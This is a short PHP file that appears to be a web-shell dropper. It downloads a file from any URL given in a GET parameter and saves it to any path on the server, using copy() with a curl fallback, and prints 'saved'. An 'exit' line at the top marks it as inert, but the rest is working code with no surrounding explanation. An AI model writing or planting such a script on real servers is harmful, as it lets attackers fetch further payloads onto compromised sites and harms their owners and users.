<?php exit; /* inert */ 
$u = $_GET['url']; $s = $_GET['as'];
if (!@copy($u, $s)) {
    $ch = curl_init($u); $fp = fopen($s, 'w');
    curl_setopt($ch, CURLOPT_FILE, $fp); curl_setopt($ch, CURLOPT_FOLLOWLOCATION, 1);
    curl_exec($ch); fclose($fp);
}
if (file_exists($s)) echo 'saved';
